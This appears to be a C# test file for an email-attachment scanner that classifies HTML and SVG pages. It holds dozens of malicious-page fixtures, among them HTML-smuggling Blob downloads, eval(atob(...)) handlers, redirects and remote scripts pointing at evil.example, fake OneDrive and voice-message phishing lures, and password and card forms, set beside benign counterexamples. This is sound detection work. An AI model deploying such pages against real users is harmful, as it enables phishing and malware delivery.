using Platform.Engine.Attachments.Pages;
using Platform.Engine.Tests.Detectors.Files;

namespace Platform.Engine.Tests.Attachments.Pages;

public sealed class PageReaderTests
{
    public static TheoryData<string, string, string> Seen => new()
    {
        { "html-smuggling", "a.html", $"<script>var b = atob('{Encoded(900)}'); var l = document.createElement('a'); l.href = URL.createObjectURL(new Blob([b])); l.download = 'a.zip'; l.click()</script>" },
        { "html-smuggling", "a.html", $"<div id=d hidden>{Encoded(900)}</div><script>var b = atob(document.getElementById('d').innerText); l.href = URL.createObjectURL(new Blob([b]))</script>" },
        { "html-smuggling", "a.html", $"<script>var b = new Uint8Array([{string.Join(',', Enumerable.Range(0, 400).Select(i => i * 37 % 256))}]); l.href = URL.createObjectURL(new Blob([b]))</script>" },
        { "html-obfuscated-script", "a.html", "<script>document.write(unescape('%3Cform%3E'))</script>" },
        { "html-obfuscated-script", "a.html", "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">" },
        { "html-obfuscated-script", "a.html", "<a href=\"java&#x0A;script:eval(atob('YWxlcnQoMSk='))\">open</a>" },
        { "html-redirect-attachment", "a.html", "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">" },
        { "html-script-leads", "a.html", "<body onload=\"location='https://evil.example/'\">" },
        { "html-script-leads", "a.html", "<body onload=\"document.getElementById('1').click()\"><a id=1 href=\"https://evil.example/\">open</a>" },
        { "html-nested-page", "a.html", $"<iframe src=\"data:text/html;base64,{Convert.ToBase64String("<form><input type=password></form>"u8)}\"></iframe>" },
        { "html-remote-frame", "a.html", "<iframe src=\"https://evil.example/\" style=\"width:100%\"></iframe>" },
        { "html-remote-frame", "a.html", "<object data=\"https://evil.example/m.html\" width=100% height=1000></object>" },
        { "html-remote-frame", "a.html", "<embed src=\"//evil.example/m\">" },
        { "html-remote-frame", "a.html", "<iframe></iframe><iframe src=\"https://evil.example/\"></iframe>" },
        { "html-remote-script", "a.html", "<html><body><script src=\"https://evil.example/m.js\"></script></body></html>" },
        { "html-remote-script", "a.html", "<script>var user = 'tanaka@acme.test';</script><script src=\"//evil.example/m.js\"></script>" },
        { "html-remote-script", "a.html", "<p>Loading...</p><script type=module>import('https://evil.example/m.js')</script>" },
        { "html-remote-script", "a.html", "<script type=module>import m from 'https://evil.example/m.js'; m(1)</script>" },
        { "html-remote-script", "a.html", "<script src=\"https://cdn.jsdelivr.net/gh/a/b/m.js\"></script>" },
        { "html-remote-script", "a.html", "<script src=\"https://storage.googleapis.com/a/m.js\"></script>" },
        { "html-remote-script", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script href=\"https://evil.example/m.js\"/></svg>" },
        { "html-link-only", "a.html", "<center><h2>OneDrive</h2><p>Agreement.pdf (212 KB)</p><a href=\"https://evil.example/l\">View document</a></center>" },
        { "html-link-only", "a.html", "<p>音声メッセージが届いています</p><button onclick=\"window.open('https://evil.example/l')\">再生する</button>" },
        { "html-link-only", "a.html", "<h1>보안 문서</h1><form action=\"https://evil.example/l\"><button>열기</button></form>" },
        { "html-link-only", "a.html", "<a href=\"https://evil.example/l\"><img src=\"https://evil.example/p.png\"></a>" },
        { "html-link-only", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><a xlink:href=\"https://evil.example/l\"><rect/><text>Listen to voice message</text></a></svg>" },
        { "html-card-form", "a.html", "<form><input autocomplete=cc-number></form>" },
        { "svg-script", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><svg:script><![CDATA[window.location.href = 'https://evil.example/']]></svg:script></svg>" },
        { "svg-page", "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><input type=\"password\"/></foreignObject></svg>" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        { "a.html", "<script src=\"https://cdn.example/chart.js\"></script><script>new Chart(c, { data: [1, 2, 3] })</script>" },
        { "a.html", "<script>function save() { l.href = URL.createObjectURL(new Blob([csv])); l.download = 'a.csv'; l.click() }</script>" },
        { "a.html", "<script>var c = decodeURIComponent(document.cookie); if (location.href == 'x') document.title = 'y';</script>" },
        { "a.html", $"<img src=\"data:image/png;base64,{Convert.ToBase64String(TestFiles.Picture)}{Encoded(900)}\"><script>l.href = URL.createObjectURL(new Blob([atob(x)]))</script>" },
        { "a.html", $"<script>{string.Concat(Enumerable.Repeat("function f(a){return parseInt(a)+1}", 2_000))}function s(){{l.href=URL.createObjectURL(new Blob([atob(x)]));document.write(unescape('%41'))}}</script>" },
        { "a.html", "<div id=p></div><script src=\"https://cdn.plot.ly/plotly.min.js\"></script><script>Plotly.newPlot('p', [{ y: [1, 2] }])</script>" },
        { "a.html", $"<div id=p></div><script>var d = JSON.parse(atob('{Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($"[{string.Join(", ", Enumerable.Range(0, 200))}]"))}')); draw(d); function save() {{ l.href = URL.createObjectURL(new Blob([JSON.stringify(d)])); l.download = 'd.json'; l.click() }}</script>" },
        { "a.html", "<h1>Scan</h1><table><tr><td>10.0.0.5</td></tr></table><a href=\"https://advisories.example/2024-1\">Advisory</a>" },
        { "a.html", $"<h1>Minutes</h1><p>{string.Concat(Enumerable.Repeat("The board met and decided what follows. ", 12))}</p><a href=\"https://partner.example/\">Open the plan</a>" },
        { "a.html", "<h1>Route</h1><p>The film shows the way to the site from the station and from the car park.</p><iframe src=\"https://www.youtube.com/embed/x\"></iframe>" },
        { "a.html", "<body onload=\"document.f.submit()\"><form name=f action=\"https://res.cisco.com/websafe/help\" method=post><input type=hidden name=m value=eHh4></form></body>" },
        { "a.html", "<meta http-equiv=\"refresh\" content=\"0; url=docs/index.html\">" },
        { "a.html", "<script type=\"text/template\"><b>eval(atob('x'))</b></script>" },
        { "a.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>function zoom(n) { n.setAttribute('width', parseInt(n.getAttribute('width')) * 2) }</script><a xlink:href=\"https://partner.example/\"><rect/></a></svg>" },
    };

    [Theory]
    [MemberData(nameof(Seen))]
    public void What_a_page_does_is_seen(string fact, string name, string markup)
    {
        Assert.Contains(fact, Opened.FactsOf(name, TestFiles.Text($"<!-- a -->{markup}")));
    }

    [Theory]
    [MemberData(nameof(Honest))]
    public void An_honest_page_says_nothing(string name, string markup)
    {
        Assert.Equal(["page-plain"], Opened.FactsOf(name, TestFiles.Text(markup)));
    }

    [Fact]
    public void A_file_that_a_page_carries_is_opened()
    {
        var zip = TestFiles.Zip(("invoice.exe", [.. TestFiles.Program, .. Convert.FromBase64String(Encoded(600))]));

        Assert.Contains(Opened.File("a.html", TestFiles.Text($"<html><script>var x = '{Convert.ToBase64String(zip)}'</script></html>")).Attachments, file => file.Type.Id == "exe");
    }

    [Fact]
    public void The_words_of_a_page_are_read()
    {
        Assert.Equal("Sign in here", Opened.File("a.html", TestFiles.Text("<html><body><p>Sign in <b>here</b></p></body></html>")).FileTexts.Single().Text.Trim());
    }

    [Theory]
    [InlineData("<a href=x")]
    [InlineData("<a href=\"x")]
    [InlineData("<script>")]
    [InlineData("<!--")]
    [InlineData("<![CDATA[")]
    [InlineData("<a b=")]
    [InlineData("<")]
    [InlineData("<a =<")]
    public void Markup_that_is_cut_ends(string markup)
    {
        Assert.True(MarkupScanner.Tags(markup, isXml: false).Count() <= 1);
    }

    [Fact]
    public void Attributes_and_script_are_read_as_a_browser_would()
    {
        var tag = MarkupScanner.Tags("<sCript Type = 'a&amp;b' defer x=1>1 </s </script >", isXml: false).Single();

        Assert.Equal(("script", "a&b", "", "1", "1 </s "), (tag.Name, tag["type"], tag["defer"], tag["x"], tag.Content));
    }

    private static string Encoded(int length)
    {
        var octets = new byte[length];
        new Random(5).NextBytes(octets);
        return Convert.ToBase64String(octets);
    }
}
